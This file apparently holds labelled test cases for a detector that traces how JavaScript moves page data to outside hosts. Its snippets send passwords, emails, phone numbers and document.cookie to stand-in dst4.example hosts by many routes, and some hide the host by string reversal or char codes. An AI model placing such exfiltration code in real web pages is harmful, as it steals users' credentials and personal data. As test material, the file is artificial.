//# host-setter
// flow: email > new.dst4.example via fetch
const u1 = new URL(location.href);
u1.host = 'new.dst4.example';
u1.search = 'e=' + document.querySelector('input[type=email]').value;
fetch(u1);

//# url-with-base-object
// flow: phone > bas.dst4.example via fetch
const u2 = new URL('/v2/in', new URL('https://bas.dst4.example/x/y'));
fetch(u2, { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# fetch-apply
// flow: password > app.dst4.example via fetch
fetch.apply(window, ['https://app.dst4.example/', { method: 'POST', body: document.querySelector('input[type=password]').value }]);

//# fetch-call-alias
// flow: email > cal.dst4.example via fetch
const f4 = window.fetch;
f4.call(window, 'https://cal.dst4.example/?e=' + document.querySelector('input[type=email]').value);

//# spread-arguments
// flow: email > spa.dst4.example via fetch
const args5 = ['https://spa.dst4.example/', { method: 'POST', body: document.querySelector('input[type=email]').value }];
fetch(...args5);

//# reflect-apply
// flow: identifier > rfl.dst4.example via beacon
Reflect.apply(navigator.sendBeacon, navigator, ['https://rfl.dst4.example/', document.cookie]);

//# wrapper-merges-init
// flow: message > mrg.dst4.example via fetch
const defaults7 = { method: 'POST', credentials: 'include' };
const request7 = (path, init = {}) => fetch('https://mrg.dst4.example' + path, { ...defaults7, ...init });
request7('/chat', { body: document.querySelector('textarea[name=message]').value });

//# wrapper-overrides-body
// no flow
// why: the wrapper puts its own body in the place of the caller's
const post8 = (init) => fetch('https://ovr.dst4.example/', { ...init, body: 'ping' });
post8({ method: 'POST', body: document.querySelector('input[type=password]').value });

//# xhr-wrapped-in-promise
// flow: email > xpr.dst4.example via xhr
const ajax9 = (method, url, data) => new Promise((done, fail) => {
  const x = new XMLHttpRequest();
  x.open(method, url);
  x.onload = () => done(x.responseText);
  x.onerror = fail;
  x.send(JSON.stringify(data));
});
ajax9('POST', 'https://xpr.dst4.example/', { e: document.querySelector('input[type=email]').value });

//# xhr-answer-not-sent-on
// no flow
// why: what is sent is what the server said of a constant
const x10 = new XMLHttpRequest();
x10.open('GET', 'https://cfg.dst4.example/c.json');
x10.onload = () => { const c = JSON.parse(x10.responseText); document.title = c.title + document.querySelector('input[type=email]').value.length; };
x10.send();

//# iframe-src-set
// flow: identifier > ifr.dst4.example via iframe
const i11 = document.createElement('iframe');
i11.setAttribute('src', 'https://ifr.dst4.example/sync?u=' + localStorage.getItem('uid'));
document.body.appendChild(i11);

//# iframe-document-write
// flow: email > dwr.dst4.example via image
document.write('<img src="https://dwr.dst4.example/p?e=' + encodeURIComponent(document.querySelector('input[type=email]').value) + '">');

//# insert-adjacent-html
// flow: search > iah.dst4.example via image
document.body.insertAdjacentHTML('beforeend', `<img src="https://iah.dst4.example/?q=${document.querySelector('input[type=search]').value}">`);

//# script-jsonp
// flow: device > jsp.dst4.example via script
function jsonp14(url, params) {
  const s = document.createElement('script');
  s.async = true;
  s.src = url + '?' + Object.keys(params).map((k) => k + '=' + encodeURIComponent(params[k])).join('&');
  document.getElementsByTagName('head')[0].appendChild(s);
}
jsonp14('https://jsp.dst4.example/j', { ua: navigator.userAgent });

//# location-href-assignment
// flow: email > hrf.dst4.example via navigation
window.location.href = 'https://hrf.dst4.example/?e=' + document.querySelector('input[type=email]').value;

//# post-message-to-frame
// flow: email > pmf.dst4.example via postmessage
const w16 = document.getElementById('chat').contentWindow;
w16.postMessage({ mail: document.querySelector('input[type=email]').value }, 'https://pmf.dst4.example');

//# websocket-on-open
// flow: message > wso.dst4.example via websocket
const ws17 = new WebSocket('wss://wso.dst4.example/s');
ws17.onopen = () => ws17.send(JSON.stringify({ m: document.querySelector('textarea[name=message]').value }));

//# host-by-replace
// flow: email > eu1.dst4.example via fetch
const tpl18 = 'https://{region}.dst4.example/in';
fetch(tpl18.replace('{region}', 'eu1'), { method: 'POST', body: document.querySelector('input[type=email]').value });

//# host-by-reversal
// flow: phone > rev.dst4.example via fetch
const h19 = 'elpmaxe.4tsd.ver'.split('').reverse().join('');
fetch(`https://${h19}/`, { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# host-by-char-codes
// flow: username > a.dst4.example via fetch
const h20 = String.fromCharCode(97) + '.dst4' + '.example';
fetch('https://' + h20, { method: 'POST', body: document.querySelector('input[name=username]').value });

//# host-from-environment-object
// flow: email > prod.dst4.example via fetch
// why: near miss: the mode is fixed
const env21 = { MODE: 'production', HOSTS: { production: 'prod.dst4.example', test: 'test.dst4.example' } };
fetch('https://' + env21.HOSTS[env21.MODE] + '/c', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# host-from-script-tag
// flow: email > ? via fetch
const origin22 = new URL(document.currentScript.src).origin;
fetch(origin22 + '/c', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# form-action-and-hidden-field
// flow: device > frm.dst4.example via form
const form23 = document.createElement('form');
form23.setAttribute('action', 'https://frm.dst4.example/in');
form23.setAttribute('method', 'post');
form23.innerHTML = `<input type="hidden" name="ua" value="${navigator.userAgent}">`;
document.body.append(form23);
form23.requestSubmit();

//# image-never-given-address
// no flow
// why: the address is computed and never given to the image
const i24 = new Image();
const url24 = 'https://img0.dst4.example/?c=' + document.cookie;
i24.alt = url24;
